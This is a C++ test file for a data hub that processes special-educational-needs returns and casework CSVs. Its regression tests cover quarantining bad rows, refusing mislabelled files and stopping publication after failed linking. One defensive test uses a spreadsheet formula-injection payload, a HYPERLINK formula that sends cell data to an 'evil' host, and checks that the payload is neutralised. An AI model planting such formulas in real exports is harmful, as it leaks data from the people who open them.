// Issue 15, "wrong data published or overwritten": each test is an attack that made the hub
// publish wrong figures with exit 0, or overwrite good records, before its fix.
#include <gtest/gtest.h>
#include <sqlite3.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>

#include "config/hub_config.h"
#include "pipeline/run.h"
#include "plugins/sen2_fixtures.h"
#include "store/store.h"
#include "test_support.h"

namespace sendhub {
namespace {

using test::TempDir;

const char* kPeople = R"({"profile": "people", "record": "person",
  "columns": {"person_ref": "Person ID", "surname": "Surname", "forename": "Forename",
              "birth_date": "Date of Birth", "upn": "UPN"}})";
const char* kRequests = R"({"profile": "requests", "record": "request",
  "columns": {"request_ref": "Ref", "person_ref": "Person", "received_date": "Received"}})";

using test::sql_text;

class WrongData : public ::testing::Test {
 protected:
  void SetUp() override {
    test::write_file(dir_ / "people.json", kPeople);
    test::write_file(dir_ / "requests.json", kRequests);
    test::write_file(dir_ / "in/people.csv", "Person ID,Surname,Forename,Date of Birth,UPN\n"
                                             "P1,Ashby,Kit,02/03/2014,\nP2,Brook,Bea,09/07/2015,\n");
    test::write_file(dir_ / "in/requests.csv", "Ref,Person,Received\nR1,P1,03/02/2025\nR2,P2,04/02/2025\n");
  }
  std::string cms_config(const std::string& sinks = "[]", const std::string& link_extra = "") {
    return test::write_config(dir_, R"([{"name": "people", "connector": "cms_csv", "path": "in/people*.csv",
                                          "profile": "people.json"},
                                        {"name": "requests", "connector": "cms_csv", "path": "in/requests*.csv",
                                         "profile": "requests.json"}])",
                              sinks, R"( "link": {"person_sources": {"requests": "people"})" + link_extra + "},");
  }
  std::string kpi_sink() { return R"([{"name": "kpis", "connector": "kpi_extract", "out": "out", "year": 2025}])"; }
  test::Result run(const std::string& cfg) { return test::sendhub("run --as-at 2026-01-15 --config " + cfg); }
  std::string db() { return dir_ / "store/sendhub.db"; }
  std::string quarantine() { return sql_text(db(), "SELECT rule || ' ' || COALESCE(line, '') FROM quarantine ORDER BY id"); }
  TempDir dir_;
};

// 15.1: `P999,,,,` stopped linking for ever (NOT NULL origins) while sinks published
// from unlinked data.
TEST_F(WrongData, APersonRowWithOnlyItsKeyIsQuarantinedAndLinkingGoesOn) {
  test::write_file(dir_ / "in/people.csv", "Person ID,Surname,Forename,Date of Birth,UPN\n"
                                           "P1,Ashby,Kit,02/03/2014,\nP999,,,,\nP2,Brook,Bea,09/07/2015,\n");
  auto r = run(cms_config(kpi_sink()));
  EXPECT_EQ(r.code, 1) << r.output;  // data problems, not a failure
  EXPECT_EQ(quarantine(), "record.empty 3");
  EXPECT_EQ(sql_text(db(), "SELECT COUNT(*) FROM linked_person"), "2");
  EXPECT_TRUE(std::filesystem::exists(dir_ / "out/kpis.csv"));
  EXPECT_EQ(run(cms_config(kpi_sink())).code, 1) << "later runs link too";
}

TEST_F(WrongData, AnEmptySen2PersonIsQuarantinedWithItsLine) {
  test::write_file(dir_ / "sen2/r.xml", test::sen2_return({test::sen2_person("Ashby"), "<Person></Person>"}));
  auto cfg = test::write_config(dir_, R"([{"name": "sen2", "connector": "sen2_xml", "path": "sen2/*.xml"}])");
  auto r = run(cfg);
  EXPECT_EQ(r.code, 1) << r.output;
  EXPECT_EQ(quarantine(), "record.empty 6");
  EXPECT_EQ(sql_text(db(), "SELECT COUNT(*) FROM person"), "1");
}

// The rule: a sink or `kpis` never publishes from a dataset whose linking failed.
TEST_F(WrongData, SinksAndKpisRefuseWhileLinkingHasFailed) {
  ASSERT_EQ(run(cms_config(kpi_sink())).code, 0);
  const std::string good = test::read_file(dir_ / "out/kpis.csv");
  test::write_file(dir_ / "in/requests.csv", "Ref,Person,Received\nR1,P1,03/02/2025\nR2,P2,04/02/2025\nR3,P2,05/02/2025\n");
  test::write_file(dir_ / "broken_rules.json", "{ not json");
  auto r = run(cms_config(kpi_sink(), R"(, "rules": "broken_rules.json")"));
  EXPECT_EQ(r.code, 3) << r.output;
  EXPECT_NE(r.output.find("linking: failed"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("kpis: not run: the dataset is not linked: linking failed"), std::string::npos) << r.output;
  // The run's JSON summary says which stage failed and why, and how long each took.
  EXPECT_NE(r.output.find("\"linking\":{\"status\":\"failed\",\"error\":"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("{\"name\":\"kpis\",\"status\":\"skipped\",\"error\":"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("\"seconds\":"), std::string::npos) << r.output;
  EXPECT_EQ(test::read_file(dir_ / "out/kpis.csv"), good) << "the earlier outputs stand";
  auto k = test::sendhub("kpis --year 2025 --out " + (dir_ / "k2") + " --config " + (dir_ / "hub.json"));
  EXPECT_EQ(k.code, 3) << k.output;
  EXPECT_NE(k.output.find("linking failed"), std::string::npos) << k.output;
  EXPECT_FALSE(std::filesystem::exists(dir_ / "k2/kpis.csv"));
  EXPECT_NE(sql_text(db(), "SELECT status FROM runs ORDER BY run_id DESC LIMIT 1"), "ok");
}

// 15.10: a run killed after a source committed, before linking.
TEST_F(WrongData, AKilledRunIsMarkedInterruptedAndItsUnlinkedDataIsNotPublished) {
  const auto cfg = cms_config(kpi_sink());
  ASSERT_EQ(run(cfg).code, 0);
  // What a kill -9 between a source's commit and linking leaves behind.
  sql_text(db(), "INSERT INTO runs(started, status, as_at) VALUES ('2026-01-16T00:00:00Z', 'running', '2026-01-16')");
  sql_text(db(), "UPDATE dataset_state SET value = CAST(value AS INTEGER) + 1 WHERE key = 'data_version'");
  auto k = test::sendhub("kpis --year 2025 --out " + (dir_ / "k") + " --config " + cfg);
  EXPECT_EQ(k.code, 3) << k.output;
  EXPECT_NE(k.output.find("has not finished"), std::string::npos) << k.output;
  EXPECT_NE(k.output.find("changed after it was last linked"), std::string::npos) << k.output;
  auto e = test::sendhub("export sen2 --year 2026 --out " + (dir_ / "x.xml") + " --config " + cfg);
  EXPECT_EQ(e.code, 3) << e.output;
  auto again = run(cfg);
  EXPECT_EQ(again.code, 0) << again.output;
  EXPECT_NE(again.output.find("1 earlier run(s) had stopped without finishing; marked interrupted"), std::string::npos);
  EXPECT_EQ(sql_text(db(), "SELECT status FROM runs ORDER BY run_id"), "ok\ninterrupted\nok");
  EXPECT_EQ(test::sendhub("kpis --year 2025 --out " + (dir_ / "k") + " --config " + cfg).code, 0);
}

// 15.5: "301 read, 301 stored" but 300 kept, the last row silently winning.
TEST_F(WrongData, ADuplicateKeyInOneFileIsQuarantinedAndTheCountsAddUp) {
  test::write_file(dir_ / "in/people.csv", "Person ID,Surname,Forename,Date of Birth,UPN\n"
                                           "P1,Ashby,Kit,02/03/2014,\nP2,Brook,Bea,09/07/2015,\nP1,Other,Sol,01/01/2016,\n");
  auto r = run(cms_config());
  EXPECT_EQ(r.code, 1) << r.output;
  EXPECT_EQ(quarantine(), "record.duplicate 4");
  EXPECT_EQ(sql_text(db(), "SELECT surname FROM person WHERE person_ref = 'P1'"), "Ashby") << "the first row is kept";
  EXPECT_EQ(sql_text(db(), "SELECT read || ' ' || stored || ' ' || quarantined FROM run_sources WHERE source = 'people'"),
            "3 2 1");
}

// 15.6: a stray CR split the row; CR-only files all read as line 1.
TEST_F(WrongData, AStrayCrQuarantinesItsRowAndCrOnlyFilesCountLines) {
  test::write_file(dir_ / "in/people.csv", "Person ID,Surname,Forename,Date of Birth,UPN\n"
                                           "P1,Ash\rby,Kit,02/03/2014,\nP2,Brook,Bea,09/07/2015,\n");
  EXPECT_EQ(run(cms_config()).code, 1);
  EXPECT_EQ(quarantine(), "csv.stray_cr 2");
  EXPECT_EQ(sql_text(db(), "SELECT person_ref || ' ' || birth_date FROM person"), "P2 2015-07-09");

  test::write_file(dir_ / "in/people.csv", "Person ID,Surname,Forename,Date of Birth,UPN\r"
                                           "P1,Ashby,Kit,02/03/2014,\rP2,Brook,Bea,31/02/2015,\r");
  EXPECT_EQ(run(cms_config()).code, 1);
  EXPECT_EQ(sql_text(db(), "SELECT line FROM quarantine WHERE rule = 'csv.date'"), "3");
  EXPECT_EQ(sql_text(db(), "SELECT line || ' ' || surname FROM person WHERE person_ref = 'P1'"), "2 Ashby");
}

TEST_F(WrongData, AnOverlongCsvFieldQuarantinesItsRowWithoutKeepingIt) {
  test::write_file(dir_ / "in/people.csv", "Person ID,Surname,Forename,Date of Birth,UPN\n"
                                           "P1," + std::string(200000, 'x') + ",Kit,02/03/2014,\nP2,Brook,Bea,09/07/2015,\n");
  EXPECT_EQ(run(cms_config()).code, 1);
  EXPECT_EQ(quarantine(), "csv.field_length 2");
  EXPECT_EQ(sql_text(db(), "SELECT person_ref FROM person"), "P2");
}

// 15.2: a headerless file overwrote person 2026-P1; a 2026 file labelled 2025 replaced
// the genuine 2025 return.
class Sen2Keys : public WrongData {
 protected:
  std::string cfg() {
    return test::write_config(dir_, R"([{"name": "sen2", "connector": "sen2_xml", "path": "sen2/*.xml"}])");
  }
  std::string surnames(int year) {
    return sql_text(db(), "SELECT surname FROM person WHERE return_year = " + std::to_string(year) + " ORDER BY surname");
  }
};

TEST_F(Sen2Keys, AFileWithoutAHeaderIsRefusedAndOverwritesNothing) {
  test::write_file(dir_ / "sen2/a_real.xml", test::sen2_return({test::sen2_person("Real")}));
  test::write_file(dir_ / "sen2/b_stray.xml", "<Message><Persons>" + test::sen2_person("Stray") + "</Persons></Message>");
  auto r = run(cfg());
  EXPECT_EQ(r.code, 1) << r.output;
  EXPECT_EQ(surnames(2026), "Real");
  EXPECT_NE(quarantine().find("sen2.header"), std::string::npos) << quarantine();
  auto v = test::sendhub("validate " + (dir_ / "sen2/b_stray.xml"));
  EXPECT_EQ(v.code, 1) << v.output;
  EXPECT_NE(v.output.find("sen2.header"), std::string::npos) << v.output;
}

TEST_F(Sen2Keys, AFileWhoseYearDisagreesWithItsReferenceDateIsRefused) {
  test::write_file(dir_ / "sen2/r2025.xml", test::sen2_return({test::sen2_person("Genuine")}, 2025));
  auto first = run(cfg());
  ASSERT_EQ(sql_text(db(), "SELECT COUNT(*) FROM quarantine"), "0") << first.output;
  std::string relabelled = test::sen2_return({test::sen2_person("Impostor")}, 2026);
  relabelled.replace(relabelled.find("<Year>2026"), 10, "<Year>2025");
  test::write_file(dir_ / "sen2/r2025.xml", relabelled);
  auto r = run(cfg());
  EXPECT_EQ(r.code, 1) << r.output;
  EXPECT_NE(r.output.find("its ReferenceDate falls in 2026"), std::string::npos) << r.output;
  EXPECT_EQ(surnames(2025), "Genuine") << "a file abandoned at its header keeps its old records";
}

TEST_F(Sen2Keys, ASecondFileOfTheSameYearIsRefusedAndARenamedReturnTakesOver) {
  test::write_file(dir_ / "sen2/a.xml", test::sen2_return({test::sen2_person("First"), test::sen2_person("Second")}));
  test::write_file(dir_ / "sen2/b.xml", test::sen2_return({test::sen2_person("Other")}));
  auto r = run(cfg());
  EXPECT_EQ(r.code, 1) << r.output;
  EXPECT_NE(r.output.find("already reads the 2026 return from"), std::string::npos) << r.output;
  EXPECT_EQ(surnames(2026), "First\nSecond");
  std::filesystem::remove(dir_ / "sen2/a.xml");  // the council re-delivers under a new name
  r = run(cfg());
  EXPECT_EQ(r.code, 0) << r.output;
  EXPECT_NE(r.output.find("now comes from this file"), std::string::npos) << r.output;
  EXPECT_EQ(surnames(2026), "Other") << "the old file's records went with it";
}

}  // namespace
}  // namespace sendhub

namespace sendhub {
namespace {

// 15.4: a request_ref of =HYPERLINK(...) was written verbatim to open_cases.csv, and a value
// X,Y shifted every column.
TEST_F(WrongData, CaseTrackerCellsAreQuotedAndFormulasNeutralised) {
  test::write_file(dir_ / "in/requests.csv",
                   "Ref,Person,Received\n\"=HYPERLINK(\"\"http://evil\"\"&B2,\"\"x\"\")\",P1,03/12/2025\n\"R,2\",P2,04/12/2025\n");
  auto r = run(cms_config(R"([{"name": "kpis", "connector": "kpi_extract", "out": "out", "as_at": "2026-01-15",
                               "from": "2025-01-01", "to": "2026-01-15"}])"));
  ASSERT_LE(r.code, 1) << r.output;
  const std::string cases = test::read_file(dir_ / "out/open_cases.csv");
  EXPECT_NE(cases.find("\"'=HYPERLINK(\"\"http://evil\"\"&B2,\"\"x\"\")\","), std::string::npos) << cases;
  EXPECT_NE(cases.find("\"R,2\","), std::string::npos) << cases;
  EXPECT_EQ(cases.find("\n=HYPERLINK"), std::string::npos);
}

// 15.7: when conflicts.csv could not be written, "links unchanged" was logged though the
// links were saved.
TEST_F(WrongData, AConflictsFileThatCannotBeWrittenIsToldApartFromFailedLinking) {
  // A folder where the file should go: the rename fails even for root (tests run as root).
  std::filesystem::create_directories(dir_ / "out/conflicts.csv/occupied");
  auto r = run(cms_config("[]", R"(, "conflicts": "out/conflicts.csv")"));
  EXPECT_EQ(r.code, 3) << r.output;
  EXPECT_NE(r.output.find("links saved, but conflicts.csv could not be written"), std::string::npos) << r.output;
  EXPECT_EQ(r.output.find("links are as before"), std::string::npos) << r.output;
}

}  // namespace
}  // namespace sendhub

namespace sendhub {
namespace {

// Issue 12.7: --verbose printed nothing more; it prints each stage's time.
TEST_F(WrongData, VerbosePrintsStageTimings) {
  auto r = test::sendhub("run --verbose --as-at 2026-01-15 --config " + cms_config());
  EXPECT_EQ(r.code, 0) << r.output;
  for (const char* stage : {"people: took ", "requests: took ", "linking: took ", "validation: took "})
    EXPECT_NE(r.output.find(std::string("sendhub: ") + stage), std::string::npos) << stage << "\n" << r.output;
  EXPECT_EQ(run(cms_config()).output.find(": took "), std::string::npos) << "quiet without --verbose";
}

// Issue 12.5: a birth date is never in the future (a two-digit year once made 98 into 2098).
TEST_F(WrongData, ABirthDateAfterTodayIsQuarantined) {
  test::write_file(dir_ / "in/people.csv", "Person ID,Surname,Forename,Date of Birth,UPN\n"
                                           "P1,Ashby,Kit,02/03/2098,\nP2,Brook,Bea,09/07/2015 00:00,\n");
  auto r = run(cms_config());
  EXPECT_EQ(r.code, 1) << r.output;
  EXPECT_EQ(quarantine(), "csv.date_future 2");
  EXPECT_EQ(sql_text(db(), "SELECT person_ref || ' ' || birth_date FROM person"), "P2 2015-07-09")
      << "a date-time parses as its date";
}

}  // namespace
}  // namespace sendhub

namespace sendhub {
namespace {

// Issue 12.9: people in one source and their requests in another gave "N requests unlinked"
// with no hint, and plans were counted twice.
TEST_F(WrongData, UnlinkedRequestsNameTheMissingPersonSourcesEntry) {
  auto cfg = test::write_config(dir_, R"([{"name": "people", "connector": "cms_csv", "path": "in/people*.csv",
                                           "profile": "people.json"},
                                         {"name": "requests", "connector": "cms_csv", "path": "in/requests*.csv",
                                          "profile": "requests.json"}])");
  auto r = run(cfg);
  EXPECT_NE(r.output.find("2 requests of source requests are unlinked and 2 of them name people that source people "
                          "holds: add \"link\": {\"person_sources\": {\"requests\": \"people\"}}"),
            std::string::npos) << r.output;
  auto check = test::sendhub("check --config " + cfg);
  EXPECT_EQ(check.code, 2) << check.output;
  EXPECT_NE(check.output.find("PROBLEM  linking: 2 requests of source requests are unlinked"), std::string::npos)
      << check.output;
  EXPECT_EQ(run(cms_config()).output.find("person_sources"), std::string::npos) << "quiet once it is there";
}

// Issue 12.9: changing the salt re-keyed everyone without a warning.
TEST_F(WrongData, ASaltThatReKeysEveryoneNeedsRekey) {
  ASSERT_EQ(run(cms_config()).code, 0);
  const std::string keys = sql_text(db(), "SELECT person_key FROM person_link ORDER BY 1");
  auto other = test::run("SENDHUB_SALT=another-salt " SENDHUB_BINARY " run --config " + (dir_ / "hub.json"));
  EXPECT_EQ(other.code, 2) << other.output;
  EXPECT_NE(other.output.find("run with --rekey"), std::string::npos) << other.output;
  EXPECT_EQ(sql_text(db(), "SELECT person_key FROM person_link ORDER BY 1"), keys) << "nothing changed";
  auto rekey = test::run("SENDHUB_SALT=another-salt " SENDHUB_BINARY " run --rekey --config " + (dir_ / "hub.json"));
  EXPECT_EQ(rekey.code, 0) << rekey.output;
  EXPECT_NE(rekey.output.find("every person is re-keyed"), std::string::npos) << rekey.output;
  EXPECT_NE(sql_text(db(), "SELECT person_key FROM person_link ORDER BY 1"), keys);
}

}  // namespace
}  // namespace sendhub

namespace sendhub {
namespace {

// Issue 12.10: code values a plugin writes were not checked against the code lists. Casework
// and feeds are checked at the door; a SEN2 return file's codes stay the validator's.
TEST_F(WrongData, CodeValuesOutsideTheirListAreQuarantinedUnlessTheyCameFromAReturn) {
  test::write_file(dir_ / "people.json", R"({"record": "person", "columns": {"person_ref": "Person ID",
    "surname": "Surname", "forename": "Forename", "birth_date": "Date of Birth", "ethnicity": "Ethnicity"}})");
  test::write_file(dir_ / "in/people.csv", "Person ID,Surname,Forename,Date of Birth,Ethnicity\n"
                                           "P1,Ashby,Kit,02/03/2014,WBRI\nP2,Brook,Bea,09/07/2015,White British\n");
  auto r = run(cms_config());
  EXPECT_EQ(r.code, 1) << r.output;
  EXPECT_EQ(quarantine(), "record.code 3");
  EXPECT_NE(r.output.find("ethnicity: not a code of the ethnicity, ethnicity_extended list"), std::string::npos) << r.output;
  EXPECT_EQ(r.output.find("White British"), std::string::npos) << "never the value";

  test::write_file(dir_ / "sen2/r.xml", test::sen2_return({test::sen2_person("Ashby").replace(
                                            test::sen2_person("Ashby").find("WBRI"), 4, "XXXX")}));
  auto sen2 = test::sendhub("run --config " + test::write_config(dir_, R"([{"name": "sen2", "connector": "sen2_xml", "path": "sen2/*.xml"}])"));
  EXPECT_EQ(sen2.code, 1) << sen2.output;
  EXPECT_NE(sen2.output.find("validation: the 2026 return: 1 errors"), std::string::npos) << sen2.output;
  EXPECT_EQ(sql_text(db(), "SELECT ethnicity FROM person WHERE source = 'sen2'"), "XXXX") << "stored, reported";
}

}  // namespace
}  // namespace sendhub
